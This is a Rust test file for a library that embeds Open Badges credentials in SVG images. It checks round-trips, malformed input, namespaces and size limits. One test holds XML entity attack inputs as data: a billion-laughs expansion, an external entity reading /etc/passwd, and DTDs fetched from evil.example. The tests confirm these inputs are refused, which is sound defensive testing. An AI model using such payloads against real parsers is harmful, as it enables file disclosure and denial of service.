//! SVG: the sound ones, and each trick by its name.

use stapel_bake::{BakeError, Format, Kind, MAX_PICTURE_BYTES, SvgError, bake, extract};

use crate::pictures::{JSON, JWS, SVG};

const NS: &str = "https://purl.imsglobal.org/ob/v3p0";

/// A picture with this in it, where the prefix is declared.
fn svg(inside: &str) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"{NS}\" xmlns:xlink=\"x\">{inside}<g><path d=\"M0 0\"/></g></svg>"
    )
}

fn found(picture: &str) -> String {
    extract(picture.as_bytes()).unwrap().text
}

fn error(picture: impl AsRef<[u8]>) -> BakeError {
    extract(picture.as_ref()).unwrap_err()
}

/// The picture is refused, and nothing is written into it either.
fn broken(picture: impl AsRef<[u8]>) -> SvgError {
    let BakeError::Svg(error) = error(&picture) else { panic!("{:?}", extract(picture.as_ref())) };
    assert_eq!(bake(picture.as_ref(), JSON), Err(error.clone().into()));
    error
}

fn baked(picture: &str, credential: &str) -> String {
    String::from_utf8(bake(picture.as_bytes(), credential).unwrap()).unwrap()
}

#[test]
fn a_badge_goes_in_as_the_standard_shows_it_and_comes_out() {
    let json = baked(SVG, JSON);
    let rest = "\n  <circle r=\"4\"/>\n</svg>\n";
    assert_eq!(
        json,
        format!(
            "<svg xmlns:openbadges=\"{NS}\" xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\">\
             <openbadges:credential><![CDATA[{JSON}]]></openbadges:credential>{rest}"
        )
    );
    let jws = baked(SVG, JWS);
    assert_eq!(
        jws,
        format!(
            "<svg xmlns:openbadges=\"{NS}\" xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\">\
             <openbadges:credential verify=\"{JWS}\"></openbadges:credential>{rest}"
        )
    );
    for (picture, text, kind) in [(&json, JSON, Kind::Json), (&jws, JWS, Kind::Jws)] {
        let found = extract(picture.as_bytes()).unwrap();
        assert_eq!((found.text.as_str(), found.kind, found.format), (text, kind, Format::Svg));
        assert_eq!(baked(picture, text), *picture, "twice is once");
    }
    assert_eq!(baked(&json, JWS), jws, "the other one takes its place");
}

#[test]
fn the_examples_of_the_standard_are_read() {
    let head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"\n  xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"\n  viewBox=\"0 0 512 512\">\n";
    let tail = "\n\n  <!-- rest-of-image -->\n</svg>\n";
    let jwt =
        format!("{head}  <openbadges:credential verify=\"header.payload.signature\"></openbadges:credential>{tail}");
    assert_eq!(found(&jwt), "header.payload.signature");
    let json = "{\n      \"@context\": [],\n      \"proof\": { }\n    }";
    let embedded =
        format!("{head}  <openbadges:credential>\n    <![CDATA[\n    {json}\n  ]]>\n  </openbadges:credential>{tail}");
    assert_eq!(found(&embedded), json);
    // It moves to its place: directly behind the root's tag.
    let again = baked(&embedded, JSON);
    assert!(again.starts_with(&format!("{head}<openbadges:credential>").replace(">\n<open", "><open")), "{again}");
    assert!(again.ends_with(&format!("</openbadges:credential>\n  {tail}")), "{again}");
}

#[test]
fn any_prefix_any_quotes_and_escaped_text_are_read() {
    for inside in [
        format!("<o:credential xmlns:o='{NS}' verify='{JWS}'/>"),
        format!("<credential xmlns=\"{NS}\" other=\"1\"\n verify = \"{JWS}\" />"),
        format!("<openbadges:credential>{JWS}</openbadges:credential>"),
        format!("<openbadges:credential>\n<!-- no text --><?no text?>{JWS}\n</openbadges:credential>"),
        format!("<openbadges:credential verify=\" {JWS}&#10;\">\n</openbadges:credential >"),
    ] {
        assert_eq!(found(&svg(&inside)), JWS, "{inside}");
    }
    let escaped = "<openbadges:credential>{&quot;a&quot;: &quot;&lt;&#x26;&amp;]]<![CDATA[>&amp;]]>&quot;}</openbadges:credential>";
    assert_eq!(found(&svg(escaped)), "{\"a\": \"<&&]]>&amp;\"}");
}

#[test]
fn a_text_that_would_end_its_section_goes_in_and_comes_out() {
    for text in [
        "{\"a\": \"]]>\"}",
        "{\"a\": \"]]]]>>]]>]]>\"}",
        "{\"a\": \"]]><openbadges:credential verify='a.b.c'/><![CDATA[\"}",
        "{\"a\": \"<![CDATA[ &amp; <!ENTITY x 'y'> <!-- \"}",
        "{\r\n  \"a\":\t\"windows\"\r\n}",
        "{\r\r\n\"]]>\r]]>\":\"\u{10FFFF}\u{85}\u{2028}\u{FFFD}\u{7F}\"}",
    ] {
        let picture = baked(SVG, text);
        assert_eq!(found(&picture), text);
        assert_eq!(baked(&picture, text), picture);
        let document = roxmltree::Document::parse(&picture).unwrap();
        let badge = document.descendants().find(|node| node.has_tag_name((NS, "credential"))).unwrap();
        let said: String = badge.children().filter_map(|child| child.text()).collect();
        assert_eq!(said, text, "another reader finds the same");
    }
    let outside_xml = "{\"a\": \"\u{FFFE}\"}";
    assert_eq!(bake(SVG.as_bytes(), outside_xml), Err(BakeError::NotForSvg { code: 0xFFFE, at: 7 }));
}

#[test]
fn every_kind_of_root_is_written_into_and_the_rest_keeps_its_bytes() {
    let badge = format!("<openbadges:credential><![CDATA[{JSON}]]></openbadges:credential>");
    let own = badge.replacen("credential>", &format!("credential xmlns:openbadges=\"{NS}\">"), 1);
    let declared = format!(" xmlns:openbadges=\"{NS}\"");
    for (picture, expected) in [
        ("<svg/>", format!("<svg{declared}>{badge}</svg>")),
        ("<svg />", format!("<svg{declared} >{badge}</svg>")),
        (
            "\u{FEFF}<s:svg xmlns:s='http://www.w3.org/2000/svg'/><!-- end -->\r\n",
            format!("\u{FEFF}<s:svg{declared} xmlns:s='http://www.w3.org/2000/svg'>{badge}</s:svg><!-- end -->\r\n"),
        ),
        (
            "<?xml version='1.0' encoding='utf-8' standalone='no'?>\r\n<!-- <svg> --><?x <svg>?>\n<svg\n a='>'\n>\r\n</svg\n>",
            format!(
                "<?xml version='1.0' encoding='utf-8' standalone='no'?>\r\n<!-- <svg> --><?x <svg>?>\n<svg{declared}\n a='>'\n>{badge}\r\n</svg\n>"
            ),
        ),
        (
            "  <!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg></svg>",
            format!(
                "  <!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg{declared}>{badge}</svg>"
            ),
        ),
        // The prefix stands for something else there: an older badge, which stays.
        (
            "<svg xmlns:openbadges='http://openbadges.org'><openbadges:assertion verify='https://b.example/1'/></svg>",
            format!(
                "<svg xmlns:openbadges='http://openbadges.org'>{own}<openbadges:assertion verify='https://b.example/1'/></svg>"
            ),
        ),
    ] {
        let once = baked(picture, JSON);
        assert_eq!(once, expected);
        assert_eq!(found(&once), JSON);
        assert_eq!(baked(&once, JSON), once);
        roxmltree::Document::parse_with_options(
            once.trim_start(),
            roxmltree::ParsingOptions { allow_dtd: true, ..Default::default() },
        )
        .unwrap();
    }
}

#[test]
fn what_only_mentions_a_badge_is_none() {
    let tag = format!("<openbadges:credential verify=\"{JWS}\"/>");
    for inside in [
        format!("<!-- {tag} -->"),
        format!("<text><![CDATA[{tag}]]></text>"),
        format!("<text>{}</text>", tag.replace('<', "&lt;")),
        format!("<?bake {tag}?>"),
        format!("<text title='{}'/>", tag.replace('<', "&lt;")),
        "<openbadges:Credential verify='a.b.c'/>".to_owned(),
        "<credential verify='a.b.c'/>".to_owned(),
        "<xlink:credential verify='a.b.c'/>".to_owned(),
        "<g xmlns:openbadges='https://purl.imsglobal.org/ob/v3p0/'><openbadges:credential verify='a.b.c'/></g>"
            .to_owned(),
    ] {
        let picture = svg(&inside);
        let without = error(&picture);
        assert_eq!(without, BakeError::NoBadge { format: Format::Svg }, "{inside}");
        let picture = baked(&picture, JSON);
        assert!(picture.contains(&inside), "it stays");
        assert_eq!(found(&picture), JSON);
    }
}

#[test]
fn an_older_badge_is_named_as_such() {
    for ns in ["http://openbadges.org", "https://openbadges.org"] {
        let older = format!("<g xmlns:openbadges='{ns}'><openbadges:assertion verify='a.b.c'/></g>");
        assert_eq!(error(svg(&older)), BakeError::OlderBadge { format: Format::Svg });
        assert_eq!(found(&baked(&svg(&older), JSON)), JSON);
    }
    assert_eq!(error(svg("<xlink:assertion/>")), BakeError::NoBadge { format: Format::Svg });
}

#[test]
fn two_badges_are_refused_and_baking_leaves_one() {
    let one = format!("<openbadges:credential verify='{JWS}'/>");
    for (inside, count) in [(one.repeat(2), 2), (format!("{one}<g><g>{one}</g></g>{one}"), 3)] {
        let picture = svg(&inside);
        assert_eq!(error(&picture), BakeError::SeveralBadges { format: Format::Svg, found: count });
        let mended = baked(&picture, JSON);
        assert_eq!(found(&mended), JSON);
        assert_eq!(mended.matches("<openbadges:credential").count(), 1);
    }
}

#[test]
fn a_badge_that_others_could_read_differently_is_refused() {
    let picture = |inside: &str| svg(inside);
    let at = svg("").find("<g>").unwrap();
    let misplaced = picture(&format!("<metadata><openbadges:credential verify='{JWS}'/></metadata>"));
    assert_eq!(error(&misplaced), SvgError::Misplaced { at: at + "<metadata>".len() }.into());
    for (inside, expected) in [
        (
            format!("<openbadges:credential verify='{JWS}'>{JSON}</openbadges:credential>"),
            BakeError::Svg(SvgError::BothForms { at }),
        ),
        (format!("<openbadges:credential>{JSON}<b/></openbadges:credential>"), SvgError::ElementInside { at }.into()),
        (
            format!("<openbadges:credential><openbadges:credential verify='{JWS}'/></openbadges:credential>"),
            SvgError::ElementInside { at }.into(),
        ),
        ("<openbadges:credential verify='{}'/>".to_owned(), BakeError::NotACredential { begins: "{}".to_owned() }),
        ("<openbadges:credential/>".to_owned(), BakeError::NotACredential { begins: String::new() }),
        (
            "<openbadges:credential verify='https://badges.example/assertions/7'/>".to_owned(),
            BakeError::NotACredential { begins: "https://badges.example/a".to_owned() },
        ),
    ] {
        let picture = picture(&inside);
        assert_eq!(error(&picture), expected);
        assert_eq!(found(&baked(&picture, JSON)), JSON, "baking mends it");
        assert_eq!(baked(&picture, JSON).matches("credential").count(), 2, "and takes the old one out whole");
    }
    assert_eq!(found(&baked(&misplaced, JSON)), JSON);
}

#[test]
fn entities_are_refused_before_they_are_expanded() {
    let billion = (1..10).fold("<!ENTITY l0 'lol'>".to_owned(), |text, n| {
        text + &format!("<!ENTITY l{n} '{}'>", format!("&l{};", n - 1).repeat(10))
    });
    for (trick, subset) in [
        ("a billion laughs", billion.as_str()),
        ("a file", "<!ENTITY f SYSTEM 'file:///etc/passwd'>"),
        ("a parameter", "<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;"),
        (
            "an attribute by default",
            "<!ATTLIST svg xmlns:openbadges CDATA #FIXED 'https://purl.imsglobal.org/ob/v3p0'>",
        ),
        ("nothing", ""),
        ("a comment", "<!-- ]> -->"),
    ] {
        let picture =
            format!("<!DOCTYPE svg [{subset}]><svg><openbadges:credential>&l9;&f;</openbadges:credential></svg>");
        assert_eq!(broken(&picture), SvgError::Declares { at: 0 }, "{trick}");
    }
    let external = "<!DOCTYPE svg SYSTEM 'http://evil.example/x.dtd'>";
    for body in ["&f;", "<text>&nbsp;</text>"] {
        let picture = format!("{external}<svg>{body}</svg>");
        assert!(matches!(broken(&picture), SvgError::Entity { .. }), "{body}");
    }
    for body in ["<text a='&f;'/>", "<text>&f</text>", "<text>& </text>", "<text>&#xG;</text>", "<text>&#;</text>"] {
        assert!(matches!(broken(format!("{external}<svg>{body}</svg>")), SvgError::Malformed { .. }), "{body}");
    }
    for body in ["<text>&#0;</text>", "<text a='&#1;'/>", "<text>&#xFFFE;</text>", "<text>&#xD800;</text>"] {
        broken(format!("<svg>{body}</svg>"));
    }
}

#[test]
fn a_truncated_picture_is_refused_wherever_it_ends() {
    let whole = baked(SVG.trim(), JSON);
    for (length, _) in whole.char_indices().skip(1) {
        let sentence = broken(&whole[..length]).to_string();
        assert!(!sentence.is_empty());
    }
    assert_eq!(broken("<svg><g></g>").to_string(), "it ends inside <svg>");
}

#[test]
fn what_is_not_well_formed_is_refused() {
    for picture in [
        "<svg></g></svg>",
        "<svg><g></svg></g>",
        "<svg/><svg/>",
        "<svg/>text",
        "text<svg/>".trim_start_matches("text "),
        "<svg/><![CDATA[ ]]>",
        "<svg/>&amp;",
        "<svg><g a='1' a='2'/></svg>",
        "<svg><g a=1/></svg>",
        "<svg><g a/></svg>",
        "<svg><g a='<'/></svg>",
        "<svg>]]></svg>",
        "<svg><!-- -- --></svg>",
        "<svg>< g/></svg>",
        "<svg><1/></svg>",
        "<svg></></svg>",
        "<svg><></></svg>",
        "<svg/><!DOCTYPE svg>",
        "<!DOCTYPE svg><!DOCTYPE svg><svg/>",
        " <?xml version='1.0'?><svg/>",
        "<svg><?xml version='1.0'?></svg>",
        "<?xml encoding='UTF-8'?><svg/>",
        "<o:svg/>",
        "<svg><o:credential verify='a.b.c'/></svg>",
        "<![CDATA[x]]><svg/>",
        "<!DOCTYPE><svg/>",
        "<!x><svg/>",
    ] {
        if picture.starts_with("text") {
            assert_eq!(error(picture), BakeError::UnknownFormat);
            continue;
        }
        let error = broken(picture);
        assert!(matches!(error, SvgError::Malformed { .. } | SvgError::OtherRoot { .. }), "{picture}: {error:?}");
        assert!(roxmltree::Document::parse(picture).is_err(), "another reader refuses it too: {picture}");
    }
}

#[test]
fn a_namespace_that_readers_see_differently_is_refused() {
    for (declaration, reason) in [
        // Found by fuzzing: the prefix is declared, and stands for nothing.
        ("xmlns:openbadges=''", "a prefix stands for no namespace"),
        ("xmlns:openbadges='https&#58;//purl.imsglobal.org/ob/v3p0'", "a namespace is written with references"),
        ("xmlns:openbadges='https://purl.imsglobal.org/ob/v3p0&#x20;'", "a namespace is written with references"),
        ("xmlns:xmlns='a'", "the namespace prefix 'xmlns' cannot be bound to 'a'"),
    ] {
        let picture = format!("<svg {declaration}><openbadges:credential verify='{JWS}'/></svg>");
        let SvgError::Malformed { reason: said, .. } = broken(&picture) else { panic!("{picture}") };
        assert_eq!(said, reason);
    }
    // The namespace without a prefix may stand for nothing.
    assert_eq!(error("<svg xmlns=''/>"), BakeError::NoBadge { format: Format::Svg });
}

#[test]
fn another_root_is_refused_by_name() {
    for (picture, name) in [
        ("<!DOCTYPE html><html><svg/></html>", "html"),
        ("<SVG/>", "SVG"),
        ("<svg xmlns='http://www.w3.org/1999/xhtml'/>", "svg"),
        ("<x:svg xmlns:x='urn:x'/>", "x:svg"),
        (
            "<openbadges:credential verify='a.b.c' xmlns:openbadges='https://purl.imsglobal.org/ob/v3p0'/>",
            "openbadges:credential",
        ),
    ] {
        assert_eq!(broken(picture), SvgError::OtherRoot { found: name.to_owned() });
    }
    assert_eq!(broken("<!-- nothing -->"), SvgError::NoRoot);
}

#[test]
fn other_encodings_are_refused() {
    for (picture, declared) in [
        ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><svg/>", "ISO-8859-1"),
        ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><svg/>", "UTF-16"),
        ("<?xml version=\"1.1\"?><svg/>", "XML 1.1"),
    ] {
        assert_eq!(broken(picture), SvgError::Declaration { declared: declared.to_owned() });
    }
    assert_eq!(broken(b"<svg>\xe9</svg>"), SvgError::NotUtf8 { at: 5 });
    assert_eq!(broken(b"\xef\xbb\xbf<svg>\xff</svg>"), SvgError::NotUtf8 { at: 5 });
    assert_eq!(error("\u{FEFF}\u{FEFF}<svg/>"), BakeError::UnknownFormat);
    assert_eq!(broken("<svg>\0</svg>"), SvgError::Character { code: 0, at: 5 });
    assert_eq!(broken("<svg a='\u{FFFF}'/>"), SvgError::Character { code: 0xFFFF, at: 8 });
}

#[test]
fn depth_attributes_and_declarations_have_a_cap() {
    let nested = |depth: usize| format!("<svg>{}{}</svg>", "<g>".repeat(depth - 1), "</g>".repeat(depth - 1));
    assert_eq!(error(nested(256)), BakeError::NoBadge { format: Format::Svg });
    assert_eq!(broken(nested(257)), SvgError::TooDeep { at: 5 + 255 * 3, limit: 256 });
    let attributes = |count: usize| (0..count).fold(String::new(), |text, n| text + &format!(" a{n}=''"));
    assert_eq!(error(format!("<svg{}/>", attributes(128))), BakeError::NoBadge { format: Format::Svg });
    assert_eq!(broken(format!("<svg{}/>", attributes(129))), SvgError::TooManyAttributes { at: 0, limit: 128 });
    let declarations = |count: usize| (0..count).fold(String::new(), |text, n| text + &format!(" xmlns:a{n}='a'"));
    broken(format!("<svg{}/>", declarations(200_000)));
    let over = format!("<svg>{}{}</svg>", format!("<g{}>", declarations(60)).repeat(3), "</g>".repeat(3));
    broken(over);
}

#[test]
fn a_long_credential_is_refused_and_a_long_picture_is_read_in_little_time() {
    let long =
        svg(&format!("<openbadges:credential>{{\"a\":\"{}\"}}</openbadges:credential>", "&amp;".repeat(1_100_000)));
    assert_eq!(error(&long), BakeError::TextTooLong);
    assert_eq!(found(&baked(&long, JSON)), JSON);
    let attributes = (0..127).fold(String::new(), |text, n| text + &format!(" a{n}=''"));
    for many in ["<g/>".repeat(4_000_000), "&#9;".repeat(4_000_000), format!("<g{attributes}/>").repeat(17_000)] {
        assert_eq!(error(format!("<svg>{many}</svg>")), BakeError::NoBadge { format: Format::Svg });
    }
}

#[test]
fn what_was_baked_stays_within_the_caps() {
    let many = |name: &str, count| (0..count).fold(String::new(), |text, n| text + &format!(" {name}{n}='x'"));
    let (attributes, prefixes) = (|count: usize| many("a", count), |count: usize| many("xmlns:a", count));
    for most in [attributes(127), prefixes(127)] {
        let picture = baked(&format!("<svg{most}/>"), JSON);
        assert_eq!(found(&picture), JSON);
        assert_eq!(baked(&picture, JSON), picture, "twice is once");
    }
    let refused = |picture: String| {
        assert_eq!(error(&picture), BakeError::NoBadge { format: Format::Svg }, "it is a sound picture");
        bake(picture.as_bytes(), JSON).unwrap_err()
    };
    assert_eq!(refused(format!("<svg{}/>", attributes(128))), SvgError::TooManyAttributes { at: 0, limit: 128 }.into());
    let bound = refused(format!("<svg{}><g{}/></svg>", prefixes(64), prefixes(128).split_at(prefixes(64).len()).1));
    assert!(bound.to_string().contains("128 namespace bindings"), "{bound}");
    // A picture that would be too large with its badge is refused when it is baked, not when it is read.
    let full = |length: usize| format!("<svg><!--{}--></svg>", "x".repeat(length - "<svg><!----></svg>".len()));
    let added = baked("<svg></svg>", JSON).len() - "<svg></svg>".len();
    let largest = full(MAX_PICTURE_BYTES - added);
    assert_eq!(found(&baked(&largest, JSON)), JSON);
    let larger = full(MAX_PICTURE_BYTES - added + 1);
    assert_eq!(bake(larger.as_bytes(), JSON), Err(BakeError::TooLarge { found: MAX_PICTURE_BYTES + 1 }));
}
